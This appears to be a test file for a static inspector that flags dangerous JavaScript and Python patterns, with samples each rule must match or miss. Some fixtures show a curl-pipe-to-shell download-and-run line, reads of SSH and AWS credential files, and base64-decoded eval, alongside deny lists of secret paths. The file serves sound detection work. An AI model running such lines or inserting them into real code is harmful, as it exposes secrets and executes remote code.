/** Each rule on samples it must match and samples it must miss, and every pattern within what can be afforded. */

import fc from 'fast-check'
import { check } from 'recheck'
import { describe, expect, it } from 'vitest'
import { inspectSource } from './inspect-code.ts'
import { JAVASCRIPT_PATTERNS } from './javascript-rules.ts'
import { maskSource } from './mask-source.ts'
import { PYTHON_PATTERNS } from './python-rules.ts'
import { TEXT_PATTERNS } from './text-rules.ts'

const CP = `import { exec, spawn } from 'node:child_process'\n`
const blob = `'${'QUJD'.repeat(500)}'`

const JAVASCRIPT_MATCH: readonly (readonly [string, string, number])[] = [
  ['shell-with-arguments', `${CP}exec(\`git log \${args.branch}\`)`, 2],
  ['shell-with-arguments', `${CP}\n\nexec('ls ' + folder, done)`, 4],
  ['shell-with-arguments', `${CP}exec(command)`, 2],
  ['shell-with-arguments', `const cp = require('child_process')\ncp.execSync("ping " + host)`, 2],
  ['shell-with-arguments', `${CP}const run = promisify(exec)\nawait run(\n  \`du \${path}\`,\n)`, 3],
  ['shell-with-arguments', `${CP}spawn(name, args, { shell: true })`, 2],
  ['evaluates-text', `const value = eval(args.code)`, 1],
  ['evaluates-text', `// harmless\nconst f = new Function('x', body)`, 2],
  ['evaluates-text', `vm.runInNewContext(script, {})`, 1],
  ['fetches-an-argument', `const page = await fetch(args.url)`, 1],
  [
    'fetches-an-argument',
    `server.tool('get', shape, async ({ url }) => {\n  return fetch(url, { headers })\n})`,
    2,
  ],
  ['fetches-an-argument', `const { url, size } = request.params.arguments\nawait axios.get(url)`, 2],
  ['fetches-an-argument', `await fetch(\`\${params.base}/items\`)`, 1],
  ['reads-credentials', `const key = readFileSync(join(homedir(), '.ssh', 'id_rsa'))`, 1],
  ['reads-credentials', `await readFile('/root/.aws/credentials', 'utf8')`, 1],
  ['downloads-and-runs', `const setup = 'curl -s https://example.org/i.sh | sh'`, 1],
  ['hidden-code', `eval(Buffer.from(${blob}, 'base64').toString())`, 1],
  ['hidden-code', Array.from({ length: 50 }, (_, at) => `_0x${(4096 + at).toString(16)}()`).join(';'), 1],
]
const JAVASCRIPT_MISS: readonly string[] = [
  `${CP}exec('git status')`,
  `${CP}exec("git " + 'status')`,
  `${CP}spawn('git', ['log', args.branch])`,
  `${CP}const match = pattern.exec(text)`,
  `const match = pattern.exec(text + more)`,
  `// exec(\`rm \${x}\`) from child_process`,
  `${CP}/* exec(command) */ const text = 'exec(command)'`,
  `${CP}export function exec(command) { return 1 }`,
  `const f = new Function('return this')`,
  `schema.evaluate(args.code); medieval(args)`,
  `await fetch('https://example.org/api')`,
  `await fetch(\`https://example.org/\${args.id}\`)`,
  `const url = buildUrl()\nawait fetch(url)`,
  `const REFUSED = ['.ssh', '.aws/credentials', 'id_rsa']`,
  `const help = 'Put your key into ~/.ssh/id_rsa'`,
  `const image = ${blob}`,
  `const re = /eval(x)\\/"/; const s = "don't"`,
]
const PYTHON_MATCH: readonly (readonly [string, string, number])[] = [
  ['shell-with-arguments', `import os\nos.system(f"ping {host}")`, 2],
  ['shell-with-arguments', `import subprocess\nsubprocess.run(command, shell=True)`, 2],
  ['shell-with-arguments', `subprocess.check_output(\n  "ls " + path,\n  shell=True,\n)`, 1],
  ['evaluates-text', `result = eval(expression)`, 1],
  ['evaluates-text', `"""A doc."""\nexec(arguments["code"])`, 2],
  [
    'fetches-an-argument',
    `@mcp.tool()\nasync def get(url: str, size: int = 3) -> str:\n    return httpx.get(url).text`,
    3,
  ],
  ['fetches-an-argument', `url = arguments["url"]\nrequests.get(url)`, 2],
  ['fetches-an-argument', `requests.post(arguments.get("url"), json={})`, 1],
  ['reads-credentials', `open(os.path.expanduser("~/.aws/credentials")).read()`, 1],
  ['hidden-code', `exec(base64.b64decode(${blob}))`, 1],
]
const PYTHON_MISS: readonly string[] = [
  `os.system("clear")`,
  `subprocess.run(["git", "log", branch])`,
  `subprocess.run("git status", shell=True)`,
  `# eval(expression)\ntext = "eval(x)"`,
  `def eval(expression):\n    pass`,
  `ast.literal_eval(text)`,
  `model.eval(text)`,
  `requests.get("https://example.org/" + path)`,
  `def helper(url):\n    return requests.get(url)`,
  `DENIED = ["~/.aws/credentials", ".ssh"]`,
]

const look = (language: 'javascript' | 'python', text: string, own = true) =>
  inspectSource({ path: 'a', text, language, own }).map(({ code, where }) => [code, where?.line])

describe('inspectSource', () => {
  it.each(JAVASCRIPT_MATCH)('finds %s in JavaScript: %s', (code, text, line) => {
    expect(look('javascript', text)).toContainEqual([`code/${code}`, line])
  })
  it.each(JAVASCRIPT_MISS)('finds nothing in JavaScript: %s', (text) => {
    expect(look('javascript', text)).toEqual([])
  })
  it.each(PYTHON_MATCH)('finds %s in Python: %s', (code, text, line) => {
    expect(look('python', text)).toContainEqual([`code/${code}`, line])
  })
  it.each(PYTHON_MISS)('finds nothing in Python: %s', (text) => {
    expect(look('python', text)).toEqual([])
  })

  it('looks in dependencies only for what no library needs', () => {
    expect(look('javascript', 'eval(x); readFileSync("/home/a/.npmrc")', false)).toEqual([
      ['code/reads-credentials', 1],
    ])
  })

  it('gives the same fingerprint when code only moved', () => {
    const finding = (text: string) => inspectSource({ path: 'a', text, language: 'python', own: true })[0]
    expect(finding('\n\n\neval(x)')?.fingerprint).toBe(finding('eval(x)')?.fingerprint)
    expect(finding('eval(y)')?.fingerprint).not.toBe(finding('eval(x)')?.fingerprint)
  })

  it('quotes nothing that acts on a terminal', () => {
    expect(
      JSON.stringify(
        inspectSource({ path: 'a', text: 'eval(x) // \u001b]0;\u202e', language: 'javascript', own: true }),
      ),
    ).not.toMatch(/u001b|\u202e/)
  })
})

describe('maskSource', () => {
  it('keeps length and lines of any text', () => {
    const piece = fc.constantFrom(
      '"',
      "'",
      '`',
      '${',
      '}',
      '{',
      '/*',
      '*/',
      '//',
      '#',
      '\\',
      '\n',
      '/',
      '[',
      'a',
      '"""',
    )
    fc.assert(
      fc.property(
        fc.array(piece, { maxLength: 200 }),
        fc.constantFrom('javascript', 'python'),
        (pieces, language) => {
          const source = pieces.join('')
          const { code, text } = maskSource(source, language)
          expect([code.length, text.length]).toEqual([source.length, source.length])
          expect(code.split('\n').length).toBe(source.split('\n').length)
        },
      ),
    )
  })
})

describe('patterns', () => {
  it.each([...JAVASCRIPT_PATTERNS, ...PYTHON_PATTERNS, ...TEXT_PATTERNS])(
    '%s is safe',
    { timeout: 60_000 },
    async ({ source, flags }) => {
      const result = await check(source, flags.replace('g', ''), { timeout: 50_000 })
      if (result.status === 'safe') return
      // As for the patterns of packs: what is not cleared has at least only bounded repetitions.
      expect(result.status === 'vulnerable' ? result.complexity.type : 'polynomial').toBe('polynomial')
      expect(source.replaceAll(/\\.|\[(?:\\.|[^\]])*\]/g, 'x')).not.toMatch(/[*+](?!\?\))|\{\d+,\}/)
    },
  )
})
